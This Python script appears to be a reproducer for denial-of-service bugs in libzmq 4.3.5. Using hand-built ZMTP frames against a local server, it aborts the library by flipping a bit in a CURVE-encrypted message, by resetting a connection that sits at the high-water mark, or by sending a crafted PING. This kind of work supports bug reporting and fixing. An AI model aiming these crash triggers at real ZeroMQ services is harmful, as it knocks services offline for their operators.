"""Abort libzmq 4.3.5 through its sockets, in three ways. Needs pyzmq only (with CURVE for the first).

usage: python libzmq_parked_connection.py curve|heartbeat|ping

curve      A message to a CURVE server whose socket has a monitor is damaged in transit.
heartbeat  A peer disconnects while its messages wait at the high-water mark, and a heartbeat is due.
ping       The same without heartbeats of the server: a PING follows the waiting message.

The case 'curve parked' has no heartbeats and therefore no abort. It prints the number of open descriptors.
"""

import contextlib
import socket
import struct
import sys
import threading
import time
from pathlib import Path

import zmq

HEARTBEAT_MS, TIMEOUT_MS = 200, 3000
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
READY = b"\x04\x29\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER\x08Identity\x00\x00\x00\x00"
PING = b"\x04\x07\x04PING\x00\x00"


def n_descriptors() -> int:
    """Return the number of open descriptors of this process."""
    return len(list(Path("/proc/self/fd").iterdir()))


def router(context: "zmq.Context[zmq.Socket[bytes]]", *, heartbeat_ms: int) -> "tuple[zmq.Socket[bytes], int]":
    """Return a ROUTER and its port."""
    made = context.socket(zmq.ROUTER)
    made.setsockopt(zmq.RCVHWM, 8)
    made.setsockopt(zmq.HEARTBEAT_IVL, heartbeat_ms)
    made.setsockopt(zmq.HEARTBEAT_TIMEOUT, TIMEOUT_MS)
    return made, made.bind_to_random_port("tcp://127.0.0.1")


def curve(heartbeat_ms: int) -> None:
    """Flip one bit of an encrypted message, and close the connection."""
    context = zmq.Context()
    public, secret = zmq.curve_keypair()
    server = context.socket(zmq.ROUTER)
    server.curve_server, server.curve_secretkey = True, secret
    server.setsockopt(zmq.HEARTBEAT_IVL, heartbeat_ms)
    server.setsockopt(zmq.HEARTBEAT_TIMEOUT, TIMEOUT_MS)
    monitor = server.get_monitor_socket(zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL)
    port = server.bind_to_random_port("tcp://127.0.0.1")
    proxy = socket.create_server(("127.0.0.1", 0))
    flip = threading.Event()

    def relay(source: socket.socket, sink: socket.socket, *, upwards: bool) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                if upwards and flip.is_set():
                    flip.clear()
                    data = data[:-1] + bytes([data[-1] ^ 1])
                sink.sendall(data)
        for each in (source, sink):
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
        source.close()

    def accept() -> None:
        while True:
            near, _ = proxy.accept()
            far = socket.create_connection(("127.0.0.1", port))
            threading.Thread(target=relay, args=(near, far), kwargs={"upwards": True}, daemon=True).start()
            threading.Thread(target=relay, args=(far, near), kwargs={"upwards": False}, daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    before = n_descriptors()
    for _ in range(10):
        with zmq.Context() as outside, outside.socket(zmq.DEALER) as client:
            client.setsockopt(zmq.LINGER, 0)
            client.curve_publickey, client.curve_secretkey = zmq.curve_keypair()
            client.curve_serverkey = public
            client.connect(f"tcp://127.0.0.1:{proxy.getsockname()[1]}")
            client.send(b"whole")
            server.recv_multipart()
            time.sleep(0.05)
            flip.set()
            client.send(b"damaged")
            if not monitor.poll(2000):
                sys.exit("no handshake failure was reported")
            monitor.recv_multipart()
        time.sleep(3e-3 * HEARTBEAT_MS)
    print("descriptors left over:", n_descriptors() - before)


def backpressure(heartbeat_ms: int, tail: bytes) -> None:
    """Queue more messages than the high-water mark allows, and reset the connection."""
    server, port = router(zmq.Context(), heartbeat_ms=heartbeat_ms)
    peer = socket.create_connection(("127.0.0.1", port))
    peer.sendall(GREETING + READY)
    time.sleep(0.2)
    peer.sendall(b"\x00\x01a" * 20 + tail)
    time.sleep(0.2)
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    peer.close()  # RST
    time.sleep(3e-3 * HEARTBEAT_MS)
    for _ in range(20):
        server.recv_multipart()
    time.sleep(1.0)


def main() -> None:
    """Run one of the cases."""
    print(f"libzmq {zmq.zmq_version()}, pyzmq {zmq.__version__}", flush=True)
    case = " ".join(sys.argv[1:]) or "curve"
    if case == "heartbeat":
        backpressure(HEARTBEAT_MS, b"")
    elif case == "ping":
        backpressure(0, PING)
    elif case.startswith("curve"):
        curve(0 if case.endswith("parked") else HEARTBEAT_MS)
    else:
        sys.exit(__doc__)
    print("no abort")


if __name__ == "__main__":
    main()
